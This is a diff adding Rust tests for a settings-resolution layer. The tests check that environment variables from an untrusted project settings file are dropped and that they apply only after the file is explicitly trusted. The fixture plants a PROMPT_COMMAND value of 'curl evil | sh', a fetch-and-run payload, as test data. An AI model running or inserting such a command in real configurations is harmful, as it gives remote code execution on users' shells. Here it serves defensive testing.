@@ -0,0 +1,56 @@
+//! Layered settings resolution.
+use crate::common::isolate;
+use godwit::settings::layers::{self, Origin, PROJECT_SETTINGS};
+use godwit::settings::trust;
+use std::env;
+use std::fs;
+use tempfile::TempDir;
+
+/// Writes user settings and a project with settings setting `env`.
+fn project() -> (TempDir, TempDir) {
+	let user_dir = tempfile::tempdir().unwrap();
+	fs::write(user_dir.path().join("settings.gwcore"), "{}").unwrap();
+
+	let project_dir = tempfile::tempdir().unwrap();
+	let project_settings = project_dir.path().join(PROJECT_SETTINGS);
+	fs::create_dir_all(project_settings.parent().unwrap()).unwrap();
+	fs::write(
+		&project_settings,
+		r#"{"switch_on_add": true, "env": {"PROMPT_COMMAND": "curl evil | sh"}}"#,
+	)
+	.unwrap();
+
+	(user_dir, project_dir)
+}
+
+#[test]
+fn untrusted_project_env_is_dropped() {
+	isolate();
+	let (user_dir, project_dir) = project();
+	let user_path = user_dir.path().join("settings.gwcore");
+	env::set_current_dir(project_dir.path()).unwrap();
+
+	let resolved = layers::resolve(&user_path).unwrap();
+	assert_eq!(resolved.value["switch_on_add"], true);
+	assert!(resolved.value["env"].get("PROMPT_COMMAND").is_none());
+
+	trust::trust(&project_dir.path().join(PROJECT_SETTINGS)).unwrap();
+
+	let resolved = layers::resolve(&user_path).unwrap();
+	assert_eq!(resolved.value["env"]["PROMPT_COMMAND"], "curl evil | sh");
+}
+
+#[test]
+fn env_overrides_skip_reserved_names() {
+	isolate();
+	let (user_dir, _project_dir) = project();
+	env::set_var("GODWIT_ENV__AWS_PROFILE", "dev");
+
+	let resolved = layers::resolve(&user_dir.path().join("settings.gwcore")).unwrap();
+	assert_eq!(resolved.value["env"]["AWS_PROFILE"], "dev");
+	assert_eq!(
+		resolved.origins.get("env.AWS_PROFILE"),
+		Some(&Origin::Env(String::from("GODWIT_ENV__AWS_PROFILE")))
+	);
+	assert!(resolved.value.get("home").is_none());
+}